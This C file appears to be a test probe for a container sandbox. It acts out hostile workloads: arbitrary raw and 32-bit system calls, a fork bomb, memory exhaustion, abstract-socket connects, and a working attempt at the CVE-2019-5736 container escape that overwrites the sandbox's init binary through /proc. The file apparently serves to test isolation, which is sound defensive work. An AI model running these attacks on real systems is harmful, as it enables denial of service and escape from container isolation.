/*
 * What a hostile program in a container does, said on the command line.
 *
 *     probe call NUMBER [ARGUMENT]…     one system call; prints "RESULT ERRNO"
 *     probe call32 NUMBER [ARGUMENT]…   the same by int 0x80, the 32-bit way in
 *     probe repeat NUMBER [ARGUMENT]…   the same call for ever
 *     probe fork                        fork until it can't be, print how often and with which error, and stay
 *     probe eat MIB                     touch that much memory
 *     probe overwrite SECONDS           open the program of every other process for writing, as fast as possible
 *     probe connect NAME                connect to a socket in the abstract namespace; prints "RESULT ERRNO"
 *
 * An argument is a number, @TEXT (a pointer to the text), %SIZE (a pointer to that many zeros) or =A,B,…
 * (a pointer to 32-bit numbers).
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static char memory[1 << 20]; /* below 4 GiB, for this program isn't position-independent */
static size_t used;

static void *take(size_t size)
{
	void *p = memory + used;

	used += (size + 15) & ~15ul;
	return p;
}

static long argument(const char *text)
{
	if (*text == '@')
		return (long)strcpy(take(strlen(text)), text + 1);
	if (*text == '%')
		return (long)take(strtoul(text + 1, NULL, 0));
	if (*text == '=') {
		uint32_t *list = take(64 * sizeof(*list));
		int n = 0;

		for (char *s = strtok(strdup(text + 1), ","); s; s = strtok(NULL, ","))
			list[n++] = (uint32_t)strtoul(s, NULL, 0);
		return (long)list;
	}
	return *text == '-' ? strtol(text, NULL, 0) : (long)strtoul(text, NULL, 0);
}

static long call32(long number, const long *a)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(a[0]), "c"(a[1]), "d"(a[2]), "S"(a[3]), "D"(a[4])
			 : "memory", "r8", "r9", "r10", "r11");
	result = (int)result;
	if (result < 0 && result > -4096) {
		errno = (int)-result;
		return -1;
	}
	return result;
}

static int told(long result)
{
	printf("%ld %d\n", result, result < 0 ? errno : 0);
	return 0;
}

static void fork_bomb(void)
{
	int count = 0;

	for (;;) {
		pid_t pid = fork();

		if (pid == 0)
			for (;;)
				pause();
		if (pid < 0)
			break;
		count++;
	}
	printf("%d %d\n", count, errno);
	fflush(stdout);
	for (;;)
		pause();
}

static int eat(size_t mib)
{
	for (size_t i = 0; i < mib; i++) {
		char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (p == MAP_FAILED)
			return told(-1);
		memset(p, 1, 1 << 20);
	}
	printf("ate %zu\n", mib);
	return 0;
}

/* CVE-2019-5736: keep a descriptor of the program, and open that for writing once nobody executes it any more. */
static int overwrite(double seconds)
{
	struct timespec start, now;
	char path[64], name[256];
	int kept[64], count = 0, seen = 0;

	puts("up");
	fflush(stdout);
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		DIR *proc = opendir("/proc");

		for (struct dirent *e; proc && (e = readdir(proc));) {
			int pid = atoi(e->d_name), fd;
			ssize_t length;

			if (pid <= 0 || pid == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			length = readlink(path, name, sizeof(name) - 1);
			if (length <= 0)
				continue;
			name[length] = 0;
			if (!strstr(name, "cove-init"))
				continue;
			seen++;
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0 && count < 64)
				kept[count++] = fd;
		}
		if (proc)
			closedir(proc);
		for (int i = 0; i < count; i++) {
			int fd;

			snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0 && write(fd, "#!/evil\n", 8) == 8)
				puts("overwritten");
			if (fd >= 0)
				close(fd);
			if (ftruncate(kept[i], 0) == 0)
				puts("truncated");
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
	printf("seen %d opened %d\n", seen, count);
	return 0;
}

static int connect_abstract(const char *name)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(address.sun_path + 1, name, sizeof(address.sun_path) - 2);
	return told(connect(s, (struct sockaddr *)&address,
			    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))));
}

int main(int argc, char **argv)
{
	long a[6] = { 0 }, number = argc > 2 ? strtol(argv[2], NULL, 0) : 0;
	const char *verb = argc > 1 ? argv[1] : "";

	if (!strcmp(verb, "fork"))
		fork_bomb();
	if (!strcmp(verb, "eat"))
		return eat((size_t)number);
	if (!strcmp(verb, "overwrite"))
		return overwrite(atof(argv[2]));
	if (!strcmp(verb, "connect"))
		return connect_abstract(argv[2]);
	for (int i = 3; i < argc && i < 9; i++)
		a[i - 3] = argument(argv[i]);
	if (!strcmp(verb, "call"))
		return told(syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]));
	if (!strcmp(verb, "call32"))
		return told(call32(number, a));
	if (!strcmp(verb, "repeat"))
		for (;;)
			syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]);
	return 2;
}
